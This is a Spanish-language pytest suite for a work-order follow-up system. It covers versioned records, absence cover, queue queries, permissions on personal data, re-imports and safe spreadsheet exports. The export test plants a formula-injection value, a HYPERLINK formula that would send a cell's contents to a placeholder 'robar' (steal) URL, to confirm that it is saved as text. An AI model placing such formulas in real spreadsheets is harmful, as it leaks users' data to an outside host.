"""Seguimiento de órdenes: registros sólo-agregar con versiones, suplencia, consultas de las bandejas y
descargas seguras. «Hoy» siempre fijo."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from consultas import consultar
from datos import seguimiento
from datos.importar import importar_archivo
from datos.permisos import PermisoDenegado
from informes.exportar import csv_seguro, excel_seguro
from paginas.bandejas.modelo import para_descargar
from tests.ayudas import ADMIN, ATENCION, JEFATURA, RETENCION, SISTEMA, insertar_orden

HOY = dt.date(2026, 11, 20)
SIN_FILTROS = {"actividades": None, "zonas": None, "unidades": None,  # los del Semáforo: ninguno
               "reemplazadas": False}  # y las bandejas sin las OT reemplazadas, como se abren
TODO = {"desde": None, "hasta": None, "personales": True, "limite": None, "desplazamiento": 0, **SIN_FILTROS,
        "reciente_desde": None, "hoy": HOY, "dias": 7}  # toda la lista, no sólo lo de ahora


def registros(con) -> pd.DataFrame:
    return con.execute("SELECT * FROM seguimientos ORDER BY id").df()


# ---------------------------------------------------------------- sólo agregar, versiones

def test_una_correccion_agrega_una_version_y_conserva_la_anterior(con):
    ot = insertar_orden(con, estado="ANULADO", causal="Cliente desistió")
    primero = seguimiento.agregar(con, ATENCION, ot, "medida_correctiva", "Llamar al cliente", hoy=HOY)
    antes = registros(con)
    segundo = seguimiento.corregir(con, ATENCION, primero, "Llamar al cliente y explicar el costo", hoy=HOY)

    despues = registros(con)
    assert len(despues) == 2
    pd.testing.assert_frame_equal(despues.iloc[:1], antes)  # la primera versión quedó intacta
    assert despues.iloc[1].corrige_a == primero and despues.iloc[1].id == segundo

    historia = consultar(con, "orden_seguimientos", ot=ot)
    assert list(historia.id) == [primero, segundo]
    assert list(historia.vigente) == [False, True]
    assert historia.corregido_por.iloc[0] == segundo
    # La bandeja muestra la versión vigente.
    fila = consultar(con, "bandeja_anulados", **TODO, sin_medida=False, causal=None).iloc[0]
    assert fila.con_medida and fila.ultima_medida == "Llamar al cliente y explicar el costo"


def test_no_se_corrige_una_version_ya_corregida(con):
    ot = insertar_orden(con, estado="ANULADO")
    primero = seguimiento.agregar(con, ATENCION, ot, "medida_correctiva", "uno", hoy=HOY)
    seguimiento.corregir(con, ATENCION, primero, "dos", hoy=HOY)
    with pytest.raises(seguimiento.DatoInvalido, match="ya fue corregido"):
        seguimiento.corregir(con, RETENCION, primero, "tres", hoy=HOY)
    assert len(registros(con)) == 2


def test_cada_registro_guarda_autor_rol_y_hora(con):
    ot = insertar_orden(con, estado="REGISTRADO")
    seguimiento.agregar(con, RETENCION, ot, "coordinacion", "Se pidió prioridad", fecha_contacto=HOY,
                        contacto="Ing. Rojas", fecha_acordada=HOY + dt.timedelta(days=3), hoy=HOY)
    fila = registros(con).iloc[0]
    assert (fila.autor, fila.rol, fila.contacto) == ("rita", "retencion", "Ing. Rojas")
    assert fila.creado_en is not None and not pd.isna(fila.creado_en)
    assert fila.suplente == False  # noqa: E712 — sin ausencia registrada no hay suplencia


@pytest.mark.parametrize("quien", [JEFATURA, SISTEMA, None])
def test_quien_no_hace_seguimiento_no_puede_escribir(con, quien):
    ot = insertar_orden(con, estado="ANULADO")
    with pytest.raises(PermisoDenegado):
        seguimiento.agregar(con, quien, ot, "medida_correctiva", "x", hoy=HOY)
    with pytest.raises(PermisoDenegado):
        seguimiento.registrar_ausencia(con, JEFATURA, HOY, HOY)
    assert registros(con).empty
    assert con.execute("SELECT count(*) FROM ausencias").fetchone()[0] == 0


@pytest.mark.parametrize("estado, tipo, campos, mensaje", [
    ("ANULADO", "coordinacion", {"texto": "x", "fecha_contacto": HOY}, "corresponde registrar medida"),
    ("ANULADO", "medida_correctiva", {"texto": "   "}, "Escriba la medida"),
    ("REGISTRADO", "coordinacion", {"texto": "x"}, "fecha de contacto"),
    ("REGISTRADO", "coordinacion", {"texto": "x", "fecha_contacto": HOY + dt.timedelta(days=1)}, "posterior a hoy"),
    ("REGISTRADO", "coordinacion", {"texto": "x", "fecha_contacto": HOY, "fecha_acordada": HOY - dt.timedelta(days=1)},
     "anterior a la fecha de contacto"),
    ("ATENDIDO", "verificacion", {"texto": ""}, "Elija el resultado"),
    ("ATENDIDO", "verificacion", {"resultado": "con_observacion"}, "Describa la observación"),
])
def test_registros_invalidos_se_rechazan_sin_escribir(con, estado, tipo, campos, mensaje):
    ot = insertar_orden(con, estado=estado)
    with pytest.raises(seguimiento.DatoInvalido, match=mensaje):
        seguimiento.agregar(con, ATENCION, ot, tipo, hoy=HOY, **campos)
    assert registros(con).empty


def test_ot_inexistente(con):
    with pytest.raises(seguimiento.DatoInvalido, match="no existe"):
        seguimiento.agregar(con, ATENCION, 123, "medida_correctiva", "x", hoy=HOY)


# ---------------------------------------------------------------- suplencia

def test_retencion_escribe_como_suplente_solo_durante_una_ausencia(con):
    ot = insertar_orden(con, estado="ATENDIDO", fecha_atencion=dt.datetime(2026, 10, 6))
    seguimiento.registrar_ausencia(con, ATENCION, dt.date(2026, 11, 18), dt.date(2026, 11, 22), "Vacación")
    assert seguimiento.suplencia_vigente(con, HOY) is not None
    assert seguimiento.suplencia_vigente(con, dt.date(2026, 11, 23)) is None

    a = seguimiento.agregar(con, RETENCION, ot, "verificacion", resultado="conforme", hoy=HOY)
    b = seguimiento.agregar(con, ATENCION, ot, "verificacion", resultado="conforme", hoy=HOY)
    c = seguimiento.agregar(con, RETENCION, ot, "verificacion", resultado="conforme", hoy=dt.date(2026, 11, 23))
    suplente = dict(con.execute("SELECT id, suplente FROM seguimientos").fetchall())
    assert suplente == {a: True, b: False, c: False}
    recientes = consultar(con, "seguimiento_recientes", limite=10, desplazamiento=0)
    assert list(recientes.id) == [c, b, a] and list(recientes.suplente) == [False, False, True]


def test_ausencia_con_fechas_invertidas(con):
    with pytest.raises(seguimiento.DatoInvalido, match="anterior"):
        seguimiento.registrar_ausencia(con, ATENCION, HOY, HOY - dt.timedelta(days=1))


# ---------------------------------------------------------------- bandejas

def test_edad_tramos_y_vencimiento_con_hoy_fijo(con):
    def registrada(dias, **otros):
        return insertar_orden(con, estado="REGISTRADO",
                              registro=dt.datetime.combine(HOY - dt.timedelta(days=dias), dt.time(23, 30)), **otros)
    esperados = {registrada(0): (0, "0–7"), registrada(7): (7, "0–7"), registrada(8): (8, "8–15"),
                 registrada(15): (15, "8–15"), registrada(16): (16, "16–30"), registrada(30): (30, "16–30"),
                 registrada(31): (31, "> 30")}
    vencida = registrada(40, fecha_limite=dt.datetime(2026, 11, 17, 18, 0))
    a_tiempo = registrada(2, fecha_limite=dt.datetime(2026, 11, 20, 8, 0))  # vence hoy: todavía no está vencida
    esperados |= {vencida: (40, "> 30"), a_tiempo: (2, "0–7")}
    insertar_orden(con, estado="REGISTRADO", actividad=52001)  # otra actividad: no es de la bandeja
    seguimiento.agregar(con, ATENCION, a_tiempo, "coordinacion", "Se pidió prioridad",
                        fecha_contacto=dt.date(2026, 11, 16), hoy=HOY)

    lista = consultar(con, "bandeja_registrados", **TODO, tramo=None, solo_vencidas=False)
    assert {f.ot: (f.edad_dias, f.tramo) for f in lista.itertuples()} == esperados
    assert list(lista.edad_dias) == sorted(lista.edad_dias, reverse=True)  # la más antigua primero
    por_ot = lista.set_index("ot")
    assert por_ot.loc[vencida, "vencida"] and por_ot.loc[vencida, "dias_vencida"] == 3
    assert not por_ot.vencida.drop(vencida).any()
    assert por_ot.loc[a_tiempo, "dias_desde_coordinacion"] == 4
    assert por_ot.loc[a_tiempo, "coordinacion_texto"] == "Se pidió prioridad"

    tramos = consultar(con, "bandeja_registrados_tramos", desde=None, hasta=None, hoy=HOY, **SIN_FILTROS)
    assert list(tramos.tramo) == ["0–7", "8–15", "16–30", "> 30"]
    assert list(tramos.ordenes) == [3, 2, 2, 2] and list(tramos.vencidas) == [0, 0, 0, 1]
    solo = consultar(con, "bandeja_registrados", **TODO, tramo=None, solo_vencidas=True)
    assert list(solo.ot) == [vencida]
    tramo = consultar(con, "bandeja_registrados", **TODO, tramo="8–15", solo_vencidas=False)
    assert set(tramo.ot) == {ot for ot, (_, t) in esperados.items() if t == "8–15"}


def test_paginacion_en_la_consulta(con):
    ots = [insertar_orden(con, estado="REGISTRADO", registro=dt.datetime(2026, 10, d, 9)) for d in range(1, 8)]
    paginas = [consultar(con, "bandeja_registrados", **{**TODO, "limite": 3, "desplazamiento": d},
                         tramo=None, solo_vencidas=False).ot.tolist() for d in (0, 3, 6)]
    assert paginas == [ots[0:3], ots[3:6], ots[6:7]]


def test_vista_de_suplencia_lista_exactamente_lo_pendiente(con):
    def ot(estado, **otros):
        return insertar_orden(con, estado=estado, **otros)
    anulada_con_medida, anulada_sin, anulada_corregida = ot("ANULADO"), ot("ANULADO"), ot("ANULADO")
    reg_reciente, reg_vieja, reg_sin, reg_registro_reciente = (ot("REGISTRADO") for _ in range(4))
    atendida_ok, atendida_sin, atendida_obs = (ot("ATENDIDO") for _ in range(3))
    ot("ANULADO", actividad=52001)  # otra actividad: nunca aparece
    con.execute("UPDATE ajustes SET valor = '7' WHERE clave = 'dias_sin_coordinacion'")

    seguimiento.agregar(con, ATENCION, anulada_con_medida, "medida_correctiva", "ok", hoy=HOY)
    primera = seguimiento.agregar(con, ATENCION, anulada_corregida, "medida_correctiva", "v1", hoy=HOY)
    seguimiento.corregir(con, RETENCION, primera, "v2", hoy=HOY)
    seguimiento.agregar(con, ATENCION, reg_reciente, "coordinacion", "x", fecha_contacto=HOY - dt.timedelta(days=7),
                        hoy=HOY)
    seguimiento.agregar(con, ATENCION, reg_vieja, "coordinacion", "x", fecha_contacto=HOY - dt.timedelta(days=8),
                        hoy=HOY)
    # Registrada hoy con fecha de contacto de hace 10 días, luego corregida a hace 2 días: cuenta la vigente.
    vieja = seguimiento.agregar(con, ATENCION, reg_registro_reciente, "coordinacion", "x",
                                fecha_contacto=HOY - dt.timedelta(days=10), hoy=HOY)
    seguimiento.corregir(con, ATENCION, vieja, "x", fecha_contacto=HOY - dt.timedelta(days=2), hoy=HOY)
    seguimiento.agregar(con, ATENCION, atendida_ok, "verificacion", resultado="conforme", hoy=HOY)
    seguimiento.agregar(con, ATENCION, atendida_obs, "verificacion", "Poste mal aplomado",
                        resultado="con_observacion", hoy=HOY)

    pendientes = consultar(con, "seguimiento_pendientes", desde=None, hasta=None, hoy=HOY, dias=7, categoria=None,
                           reciente_desde=None, limite=None, desplazamiento=0)
    assert sorted(zip(pendientes.categoria, pendientes.ot)) == sorted([
        ("anulado_sin_medida", anulada_sin),
        ("registrado_sin_coordinar", reg_vieja), ("registrado_sin_coordinar", reg_sin),
        ("atendido_sin_verificar", atendida_sin)])
    resumen = consultar(con, "seguimiento_pendientes_resumen", desde=None, hasta=None, hoy=HOY, dias=7)
    assert dict(zip(resumen.categoria, resumen.ordenes)) == {
        "anulado_sin_medida": 1, "registrado_sin_coordinar": 2, "atendido_sin_verificar": 1}
    # Con un plazo de 10 días la coordinación de hace 8 días alcanza.
    con_diez = consultar(con, "seguimiento_pendientes", desde=None, hasta=None, hoy=HOY, dias=10,
                         reciente_desde=None, categoria="registrado_sin_coordinar", limite=None, desplazamiento=0)
    assert list(con_diez.ot) == [reg_sin]


def test_atendidos_tiempos_y_verificacion(con):
    registro = dt.datetime(2026, 10, 1, 8, 0)
    ots = [insertar_orden(con, estado="ATENDIDO", registro=registro,
                          fecha_atencion=registro + dt.timedelta(days=d)) for d in range(1, 11)]
    insertar_orden(con, estado="ATENDIDO", registro=registro)  # sin fecha de atención
    seguimiento.agregar(con, ATENCION, ots[0], "verificacion", resultado="conforme", hoy=HOY)
    seguimiento.agregar(con, ATENCION, ots[1], "verificacion", "Falta retirar poste viejo",
                        resultado="con_observacion", hoy=HOY)
    resumen = consultar(con, "bandeja_atendidos_resumen", desde=None, hasta=None, **SIN_FILTROS).iloc[0]
    assert (resumen.total, resumen.con_fecha_atencion, resumen.sin_verificar, resumen.conforme,
            resumen.con_observacion) == (11, 10, 9, 1, 1)
    assert resumen.mediana_dias == pytest.approx(5.5) and resumen.p90_dias == pytest.approx(9.1)
    histograma = consultar(con, "bandeja_atendidos_histograma", desde=None, hasta=None, **SIN_FILTROS)
    assert dict(zip(histograma.dias, histograma.ordenes)) == {d: 1 for d in range(1, 11)}
    observadas = consultar(con, "bandeja_atendidos", **TODO, verificacion="con_observacion")
    assert list(observadas.ot) == [ots[1]] and observadas.verificacion_texto.iloc[0] == "Falta retirar poste viejo"


def test_pareto_de_causales_y_filtro_sin_medida(con):
    for causal, n in (("B", 1), ("A", 3), (None, 2)):
        for _ in range(n):
            insertar_orden(con, estado="ANULADO", causal=causal)
    causales = consultar(con, "bandeja_anulados_causales", desde=None, hasta=None, **SIN_FILTROS)
    assert list(causales.causal) == ["A", "(sin causal)", "B"]
    assert list(causales.ordenes) == [3, 2, 1]
    assert causales.porcentaje_acumulado.tolist() == pytest.approx([50.0, 250 / 3, 100.0])
    una = consultar(con, "bandeja_anulados", **TODO, sin_medida=False, causal="A").ot.iloc[0]
    seguimiento.agregar(con, ATENCION, int(una), "medida_correctiva", "x", hoy=HOY)
    sin = consultar(con, "bandeja_anulados", **TODO, sin_medida=True, causal="A")
    assert len(sin) == 2 and una not in set(sin.ot)
    resumen = consultar(con, "bandeja_anulados_resumen", desde=None, hasta=None, causal=None, **SIN_FILTROS).iloc[0]
    assert (resumen.total, resumen.sin_medida) == (6, 5)


def test_datos_personales_solo_con_permiso(con):
    insertar_orden(con, estado="ANULADO", cliente="Juana Pérez", ci_nit="0123456", direccion="Av. Heroínas 1")
    sin = consultar(con, "bandeja_anulados", **{**TODO, "personales": False}, sin_medida=False, causal=None)
    con_permiso = consultar(con, "bandeja_anulados", **TODO, sin_medida=False, causal=None)
    assert sin[["cliente", "ci_nit", "direccion"]].isna().all().all()
    assert con_permiso.ci_nit.iloc[0] == "0123456"


# ---------------------------------------------------------------- descargas seguras

def test_la_descarga_excel_guarda_formulas_como_texto(con):
    formula = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"clic")'
    ot = insertar_orden(con, estado="ANULADO", causal="+1-1", fecha_anulacion=dt.datetime(2026, 10, 7, 15, 30))
    seguimiento.agregar(con, ATENCION, ot, "medida_correctiva", formula, hoy=HOY)
    from paginas.bandejas.modelo import COLUMNAS_ANULADOS as COLUMNAS
    df = para_descargar(consultar(con, "bandeja_anulados", **TODO, sin_medida=False, causal=None), COLUMNAS, True)

    hoja = openpyxl.load_workbook(io.BytesIO(excel_seguro({"Anulados": df})))["Anulados"]
    titulos = [c.value for c in hoja[1]]
    fila = {t: c for t, c in zip(titulos, hoja[2])}
    assert fila["Medida correctiva"].data_type == "s" and fila["Medida correctiva"].value == formula
    assert fila["Causal"].data_type == "s" and fila["Causal"].value == "+1-1"
    assert fila["OT"].value == ot
    assert fila["Anulación"].is_date and fila["Anulación"].value == dt.datetime(2026, 10, 7, 15, 30)
    assert fila["Anulación"].number_format.startswith("dd/mm/yyyy")

    texto = csv_seguro(df).decode("utf-8-sig")
    assert "'=HYPERLINK(" in texto and ";'+1-1;" in texto and "07/10/2026 15:30" in texto


def test_excel_seguro_tipos_y_nombres_de_hoja():
    df = pd.DataFrame({"n": [1, None], "x": [1.5, 2.0], "fecha": pd.to_datetime(["2026-01-05", None]),
                       "t": ["@SUMA(1)", "-2"], "b": [True, False]})
    libro = openpyxl.load_workbook(io.BytesIO(excel_seguro({"Hoja: con/raros?": df, "vacía": df.iloc[:0]})))
    assert libro.sheetnames == ["Hoja_ con_raros_", "vacía"]
    hoja = libro.worksheets[0]
    assert [c.data_type for c in hoja[2]] == ["n", "n", "d", "s", "b"]
    assert hoja["A3"].value is None and hoja["D3"].value == "-2" and hoja["C2"].number_format == "dd/mm/yyyy"


# ---------------------------------------------------------------- importaciones

def test_los_registros_sobreviven_a_reimportar_y_a_una_exportacion_posterior(con, muestra):
    primera = importar_archivo(con, muestra("ordenes_osf_2026_s2.csv"), usuario=ATENCION)
    assert primera.importado and not primera.problemas
    ots = dict(con.execute(
        "SELECT estado, min(ot) FROM ordenes WHERE actividad_codigo IN (SELECT codigo FROM actividades_poste) "
        "GROUP BY estado").fetchall())
    medida = seguimiento.agregar(con, ATENCION, ots["ANULADO"], "medida_correctiva", "=1+1 medida", hoy=HOY)
    seguimiento.corregir(con, ATENCION, medida, "Medida corregida", hoy=HOY)
    seguimiento.agregar(con, RETENCION, ots["REGISTRADO"], "coordinacion", "Coordinado", fecha_contacto=HOY,
                        contacto="GR", hoy=HOY)
    seguimiento.agregar(con, ATENCION, ots["ATENDIDO"], "verificacion", resultado="conforme", hoy=HOY)
    antes = registros(con)

    otra_vez = importar_archivo(con, muestra("ordenes_osf_2026_s2.csv"), usuario=ATENCION)
    assert otra_vez.ya_importado
    posterior = importar_archivo(con, muestra("ordenes_osf_2026_s2_actualizado.csv"), usuario=RETENCION)
    assert not posterior.problemas and posterior.importacion_id is not None
    assert posterior.transiciones  # la exportación posterior sí cambió estados

    pd.testing.assert_frame_equal(registros(con), antes)
    for ot in ots.values():  # cada registro sigue pegado a su OT, con toda su historia
        assert con.execute("SELECT count(*) FROM ordenes WHERE ot = $ot", {"ot": ot}).fetchone()[0] == 1
        assert len(consultar(con, "orden_seguimientos", ot=ot)) == len(antes[antes.ot == ot])
    anulada = consultar(con, "bandeja_anulados", **TODO, sin_medida=False, causal=None).set_index("ot")
    assert anulada.loc[ots["ANULADO"], "ultima_medida"] == "Medida corregida"


def test_ausencias_superpuestas_terminadas_antes_o_anuladas(con):
    """Nada se borra: terminar antes o anular es un registro más, con autor; dos ausencias no se superponen."""
    lunes = dt.date(2026, 11, 9)
    primera = seguimiento.registrar_ausencia(con, ATENCION, lunes, lunes + dt.timedelta(days=4), "Vacaciones")
    with pytest.raises(seguimiento.DatoInvalido, match="se superpone"):
        seguimiento.registrar_ausencia(con, RETENCION, lunes + dt.timedelta(days=2), lunes + dt.timedelta(days=8))
    assert seguimiento.suplencia_vigente(con, lunes + dt.timedelta(days=3)) is not None
    # volvió el miércoles: desde el jueves no hay suplencia, y ahora cabe otra ausencia
    seguimiento.terminar_ausencia(con, ATENCION, primera, lunes + dt.timedelta(days=2), "Volvió antes")
    assert seguimiento.suplencia_vigente(con, lunes + dt.timedelta(days=2)) is not None
    assert seguimiento.suplencia_vigente(con, lunes + dt.timedelta(days=3)) is None
    with pytest.raises(seguimiento.DatoInvalido, match="nuevo último día"):
        seguimiento.terminar_ausencia(con, ATENCION, primera, lunes + dt.timedelta(days=3))
    segunda = seguimiento.registrar_ausencia(con, ADMIN, lunes + dt.timedelta(days=3), lunes + dt.timedelta(days=8))
    seguimiento.anular_ausencia(con, RETENCION, segunda, "Se registró por error")
    assert seguimiento.suplencia_vigente(con, lunes + dt.timedelta(days=5)) is None
    with pytest.raises(seguimiento.DatoInvalido, match="ya está anulada"):
        seguimiento.anular_ausencia(con, ATENCION, segunda)
    with pytest.raises(PermisoDenegado):
        seguimiento.anular_ausencia(con, JEFATURA, primera)
    # la original sigue como se registró; los cambios, con su autor
    assert con.execute("SELECT count(*) FROM ausencias").fetchone() == (2,)
    assert con.execute("SELECT tipo, registrado_por FROM ausencias_cambios ORDER BY id").fetchall() == [
        ("terminada", "ana"), ("anulada", "rita")]
    assert [a for (a,) in con.execute("SELECT accion FROM auditoria WHERE accion LIKE 'ausencia%' ORDER BY id")
            .fetchall()] == ["ausencia_registrada", "ausencia_terminada", "ausencia_registrada", "ausencia_anulada"]
